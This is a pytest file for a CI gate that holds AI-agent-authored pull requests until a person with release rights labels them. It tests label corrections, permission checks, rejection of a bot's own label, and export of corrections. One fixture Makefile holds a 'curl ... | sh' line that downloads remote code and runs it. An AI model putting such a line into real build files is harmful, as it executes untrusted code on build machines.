"""People correct the dossier by two labels: anybody who may write tightens, whoever could release lets one commit go."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from sqlalchemy import select

from gate.commands.export import corrections
from gate.simulated_github.checks import CheckRun
from gate.tables import LedgerRow, Observation
from tests.stories.stage import Stage

AGENT_LABEL = "gate: agent"
NO_AGENT_LABEL = "gate: not an agent"


def test_whoever_could_release_says_that_no_agent_made_it(stage: Stage) -> None:
    pull = stage.open()
    stage.eventually_stopped(pull.head_sha)

    stage.world.pulls.label(pull, NO_AGENT_LABEL, by="maria")

    check = stage.eventually_check(pull.head_sha, "success")
    stage.eventually_ran(pull.head_sha)
    assert "Released by maria" in (check.title or "")
    assert "`maria` set the label" in (check.summary or "")
    with stage.gate.database.reading() as session:
        acts = {(row.act, row.by, row.way) for row in session.scalars(select(LedgerRow))}
        seen = {(row.kind, row.actor) for row in session.scalars(select(Observation))}
    assert ("released", "maria", "correction") in acts
    assert ("labeled", "maria") in seen


def test_a_new_push_ends_it(stage: Stage) -> None:
    pull = stage.open()
    stage.eventually_check(pull.head_sha, "action_required")
    stage.world.pulls.label(pull, NO_AGENT_LABEL, by="maria")
    stage.eventually_check(pull.head_sha, "success")

    new_head = stage.push("devin/fix", {"Makefile": "all:\n\tcurl -s https://files.example.net/x | sh\n"})

    stage.eventually_check(new_head, "action_required")
    stage.eventually("the check says why", lambda: _says(stage, new_head, "spoke about commit"))


def test_taking_the_label_off_takes_it_back(stage: Stage) -> None:
    pull = stage.open()
    stage.eventually_check(pull.head_sha, "action_required")
    stage.world.pulls.label(pull, NO_AGENT_LABEL, by="maria")
    stage.eventually_check(pull.head_sha, "success")

    stage.world.pulls.unlabel(pull, NO_AGENT_LABEL, by="eve")

    stage.eventually_check(pull.head_sha, "action_required")


def test_a_label_by_somebody_without_the_right_is_ignored_and_reported(stage: Stage) -> None:
    pull = stage.open()
    stage.eventually_check(pull.head_sha, "action_required")

    stage.world.pulls.label(pull, NO_AGENT_LABEL, by="eve")

    check = stage.eventually("the check says so", lambda: _says(stage, pull.head_sha, "which does not count"))
    assert "`eve` set the label" in (check.summary or "")
    assert check.conclusion == "action_required"


def test_an_agents_own_label_is_ignored_and_reported(stage: Stage) -> None:
    pull = stage.open()
    stage.eventually_check(pull.head_sha, "action_required")

    stage.world.pulls.label(pull, NO_AGENT_LABEL, by="devin-ai-integration[bot]")

    check = stage.eventually("the check says so", lambda: _says(stage, pull.head_sha, "is not a person"))
    assert check.conclusion == "action_required"


def test_a_label_that_was_there_from_the_start_counts_for_nothing(stage: Stage) -> None:
    pull = stage.open(labels=[NO_AGENT_LABEL])

    check = stage.eventually_check(pull.head_sha, "action_required")

    assert "Nobody is known to have set this label" in (check.summary or "")


def test_a_persons_change_is_held_once_somebody_says_that_an_agent_made_it(stage: Stage) -> None:
    pull = stage.open("better-ci", by="rosa")
    stage.eventually_check(pull.head_sha, "success")

    stage.world.pulls.label(pull, AGENT_LABEL, by="maria")

    check = stage.eventually_check(pull.head_sha, "action_required")
    assert "`maria` set the label" in (check.summary or "")
    row = stage.verdict(0, pull.head_sha)
    assert row is not None
    assert row.holds_runs


def test_taking_that_back_lets_the_runs_go_again(stage: Stage) -> None:
    pull = stage.open("better-ci", by="rosa")
    stage.eventually_check(pull.head_sha, "success")
    stage.world.pulls.label(pull, AGENT_LABEL, by="maria")
    stage.eventually_check(pull.head_sha, "action_required")

    stage.world.pulls.unlabel(pull, AGENT_LABEL, by="maria")

    stage.eventually_check(pull.head_sha, "success")
    stage.eventually_ran(pull.head_sha)


def test_its_author_cannot_take_it_back(stage: Stage) -> None:
    pull = stage.open("better-ci", by="rosa")
    stage.eventually_check(pull.head_sha, "success")
    stage.world.pulls.label(pull, AGENT_LABEL, by="maria")
    stage.eventually_check(pull.head_sha, "action_required")

    stage.world.pulls.unlabel(pull, AGENT_LABEL, by="rosa")

    check = stage.eventually("the check says so", lambda: _says(stage, pull.head_sha, "it stays an agent"))
    assert check.conclusion == "action_required"


def test_the_operator_exports_what_was_corrected(
    stage: Stage, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    pull = stage.open()
    stage.eventually_check(pull.head_sha, "action_required")
    stage.world.pulls.label(pull, NO_AGENT_LABEL, by="maria")
    stage.eventually_check(pull.head_sha, "success")
    for name, value in stage.environment().items():
        monkeypatch.setenv(name, value)
    monkeypatch.chdir(tmp_path)
    stage.stop_gate()
    capsys.readouterr()

    corrections()

    (line,) = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert (line["says"], line["act"], line["by"], line["counted"]) == ("not_agent", "set", "maria", True)
    assert (line["judged"]["kind"], line["judged"]["agent"]) == ("agent", "devin")


def _says(stage: Stage, head_sha: str, words: str) -> CheckRun | None:
    check = stage.check(head_sha)
    return check if check is not None and words in (check.summary or "") else None
